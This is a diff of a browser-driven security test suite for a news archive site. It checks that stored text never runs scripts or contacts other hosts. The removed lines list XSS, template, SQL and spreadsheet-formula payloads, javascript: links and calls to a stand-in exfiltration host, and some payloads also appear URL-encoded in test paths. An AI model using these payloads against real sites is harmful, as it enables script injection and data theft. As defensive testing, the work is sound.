@@ -2,68 +2,22 @@
 
 from collections.abc import Iterator
 from pathlib import Path
+from urllib.parse import quote
 
 import pytest
 
-from archive.record import Attachment, Image, Related
 from tests.reading_room.browser import chromium, serving
-from tests.reading_room.newsroom import HOME, article, opened, reading
+from tests.reading_room.hostile import WEAPONS, covers, crawled, written
 
 playwright = pytest.importorskip("playwright.sync_api", reason="make test-slow installs what a browser needs")
 pytestmark = pytest.mark.slow
 
-# What a newsroom, or whoever broke into it, may put where text belongs. Each that works calls alert or asks another host.
-WEAPONS = {
-    "script": "<script>alert(1)</script>",
-    "closing": "</title></textarea></style></script><script>alert(1)</script>",
-    "handler": '"><img src=x onerror=alert(1)>',
-    "attribute": "' onmouseover='alert(1)' autofocus onfocus='alert(1)' x='",
-    "svg": "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "frame": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
-    "style": "<style>@import 'http://exfiltration.example/x';*{background:url(http://exfiltration.example/y)}</style>",
-    "link": '<link rel="prefetch" href="http://exfiltration.example/z"><meta http-equiv="refresh" content="0;url=http://exfiltration.example/">',
-    "template": "{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}",
-    "base": '<base href="http://exfiltration.example/"><form action="http://exfiltration.example/"><button autofocus>x</button></form>',
-    "bidi": "Wali Kota \u202etixe\u202c dan \u2066baris\u2069 \u200f",
-    "sql": "Robert'); DROP TABLE articles;--",
-    "formula": '=HYPERLINK("http://exfiltration.example/","klik")',
-    "marks": "⟦<img src=x onerror=alert(1)>⟧",
-    "long": "A" * 1_000_000,
-}
-LINKS = ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", " \tjava\nscript:alert(1)")
 
-
-@pytest.fixture(scope="module")
-def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """An archive in which every weapon stands wherever a story has text."""
+@pytest.fixture(scope="module", params=["written", "crawled"])
+def hostile(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """An archive in which every weapon stands wherever a story has text: put there, and come in by a crawl."""
     folder = tmp_path_factory.mktemp("hostile")
-    told = []
-    for number, weapon in enumerate(WEAPONS.values(), 1):
-        link = LINKS[number % len(LINKS)]
-        told.append(
-            article(
-                number,
-                f"{weapon} banjir",
-                body=(f"Banjir {weapon} di kota.", weapon),
-                section=weapon[:200],
-                sections=(weapon[:200],),
-                tags=(weapon[:200],),
-                author=weapon[:200],
-                byline=weapon[:200],
-                dateline=weapon[:200],
-                dateline_place=weapon[:200],
-                captions=weapon[:5000],
-                images=(Image(url=link, caption=weapon[:5000], alt=weapon[:200]),),
-                attachments=(Attachment(url=link, label=weapon[:200]), Attachment(url=f"{HOME}{weapon[:200]}", label=None)),
-                related=(Related(url=link, title=weapon[:200], printed_date=weapon[:200]),),
-                translation_url=link,
-            )
-        )
-    with opened(folder) as archive:
-        archive.keep([reading(each) for each in told])
-        archive.keep([reading(article(1, "Banjir surut", body=(WEAPONS["handler"],)), day=2)])  # a revision to look at
-        archive.end("finished", 0, notes=[WEAPONS["script"]])
-    return folder / "archive.db"
+    return written(folder) if request.param == "written" else crawled(folder)
 
 
 @pytest.fixture(scope="module")
@@ -109,6 +63,8 @@ def trap(browser: "playwright.Browser", home: str) -> Iterator[Trap]:
     page.close()
 
 
+NAMED = ("closing", "handler", "attribute", "bidi")
+"""Weapons for which somebody's name and office are asked for."""
 STORIES = [f"/archive/articles/{number}" for number in range(1, len(WEAPONS) + 1)]
 PAGES = [
     "/",
@@ -130,13 +86,62 @@ PAGES = [
     "/archive?sql=select+title+from+articles",
     "/archive?sql=%3C/textarea%3E%3Cscript%3Ealert(1)%3C/script%3E",
     "/%3Cscript%3Ealert(1)%3C/script%3E",
+    *(
+        "/tokoh",
+        "/tokoh?q=%3Cscript%3Ealert(1)%3C/script%3E",
+        "/jabatan",
+        "/jabatan?q=Camat",
+        "/tempat",
+        "/tempat/99.01",
+        "/hari",
+        "/hilang",
+    ),
+    *(
+        "/hari/2020",
+        "/hari/2020-01",
+        "/hari/2020-01-23",
+        "/hari/2020-01-24",
+        "/perubahan",
+        "/perubahan/1/1",
+        "/grafik",
+        "/feeds/hilang.atom",
+    ),
+    *("/grafik?kata=" + quote(f"{WEAPONS['handler']}, banjir"), "/llms.txt", "/archive/versions", "/archive/problems", "/archive/said"),
+    *("/archive/search?q=banjir&section=" + quote(WEAPONS["closing"]), "/archive/search?q=banjir&person=" + quote(WEAPONS["handler"])),
+    *(f"/tokoh/{quote(WEAPONS[name][:200], safe='')}" for name in NAMED),
+    *(f"/jabatan/{quote('Camat ' + WEAPONS[name][:200], safe='')}" for name in NAMED),
     *STORIES,
 ]
+TURNED = """() => {
+  const wrong = []
+  const box = (node, last) => {  // what a node takes up of its last line, or of its first
+    const range = document.createRange(); range.selectNode(node)
+    const all = [...range.getClientRects()].filter(each => each.width > 0)
+    if (!all.length) return null
+    const line = last ? Math.max(...all.map(each => each.bottom)) : Math.min(...all.map(each => each.bottom))
+    const there = all.filter(each => Math.abs(each.bottom - line) < 6)
+    return {line, left: Math.min(...there.map(each => each.left)), right: Math.max(...there.map(each => each.right))}
+  }
+  for (const block of document.querySelectorAll('main p, main li, main dd, main dt, main td, main th, main h1, main h2, main h3, body > p, td')) {
+    if (block.closest('.body, .difference, .CodeMirror, tr.changed, tr.removed, tr.inserted')) continue
+    const inside = [...block.childNodes].filter(each => each.textContent.trim() && box(each, true))
+    for (let at = 1; at < inside.length; at++) {
+      const before = box(inside[at - 1], true), after = box(inside[at], false)
+      if (Math.abs(before.line - after.line) < 6 && after.left < before.right - 2) wrong.push(block.outerHTML.slice(0, 600))
+    }
+  }
+  return wrong
+}"""
+"""Blocks in which something stands to the left of what it follows."""
 
 
-@pytest.mark.parametrize("path", PAGES)
+@pytest.mark.parametrize("path", PAGES, ids=lambda path: path[:60])
 def test_nothing_stored_runs_or_leaves(trap: Trap, path: str) -> None:
+    if path.endswith(".atom"):
+        is_text(trap, path)
+        return
     trap.visit(path)
+    assert trap.page.evaluate(TURNED) == []
     for handle in trap.page.query_selector_all("a[href]")[:200]:
         address = handle.evaluate("link => link.href")
         assert address.startswith(("http://", "https://", "mailto:", "#")), address
@@ -144,6 +149,50 @@ def test_nothing_stored_runs_or_leaves(trap: Trap, path: str) -> None:
     assert trap.page.evaluate("document.querySelectorAll('[onerror],[onload],[onfocus],[onmouseover],[onbegin]').length") == 0
     assert trap.caught == []
     assert trap.refused == []  # nothing even got so far that the policy had to stop it
+
+
+def is_text(trap: Trap, path: str) -> None:
+    """A feed, as a browser that shows it inside a page would take it."""
+    told = trap.page.request.get(trap.home + path)
+    assert told.status == 200
+    trap.visit("/archive")
+    found = trap.page.evaluate(
+        """text => {
+          const feed = new DOMParser().parseFromString(text, 'application/xml')
+          const shown = [...feed.getElementsByTagName('content')].map(each => new DOMParser().parseFromString(each.textContent, 'text/html'))
+          const bad = 'script, iframe, object, embed, base, svg, img, style, link, meta, form, [onerror], [onload], [onfocus], [onmouseover]'
+          return [feed.querySelector('parsererror') === null, shown.flatMap(each => [...each.querySelectorAll(bad)].map(one => one.outerHTML))]
+        }""",
+        told.text(),
+    )
+    assert found == [True, []]
+    assert trap.caught == []
+
+
+def test_the_cover_of_the_evidence_is_a_page_of_text(hostile: Path, browser: "playwright.Browser", tmp_path: Path) -> None:
+    shown = covers(hostile, tmp_path)
+    assert len(shown) >= len(WEAPONS) - 1
+    page = browser.new_page()
+    trap = Trap(page, tmp_path.as_uri())
+    for cover in shown:
+        page.goto(cover.as_uri(), wait_until="load")
+        page.wait_for_timeout(20)
+        assert page.query_selector("script, iframe, object, embed, base, svg, img, form, meta[http-equiv=refresh], link") is None
+        assert page.evaluate(TURNED) == []
+        links = [handle.get_attribute("href") for handle in page.query_selector_all("a[href]")]
+        assert not [link for link in links if not link or ":" in link or link.startswith("//")]
+    assert trap.caught == []
+    assert trap.refused == []
+    page.close()
+
+
+def test_a_page_that_would_be_turned_around_is_noticed(trap: Trap) -> None:
+    trap.visit("/archive")
+    trap.page.evaluate(
+        "() => { const main = document.createElement('main'); document.body.append(main); "
+        "main.innerHTML = '<p>\u202eJudul <small style=\"unicode-bidi: normal\">2020</small></p>' }"
+    )
+    assert len(trap.page.evaluate(TURNED)) == 1
 
 
 def test_a_weapon_that_got_into_a_page_is_stopped_by_the_policy(trap: Trap) -> None:
@@ -166,7 +215,7 @@ def test_datasettes_own_scripts_go_on_working(trap: Trap) -> None:
 
 
 def test_text_is_shown_as_it_was_printed(trap: Trap) -> None:
-    trap.visit("/archive/articles/1")
+    trap.visit("/archive/articles/3")
     assert WEAPONS["handler"] in trap.page.inner_text("article .body")
     trap.visit("/archive/articles/9")
     assert WEAPONS["template"] in trap.page.inner_text("article h1")
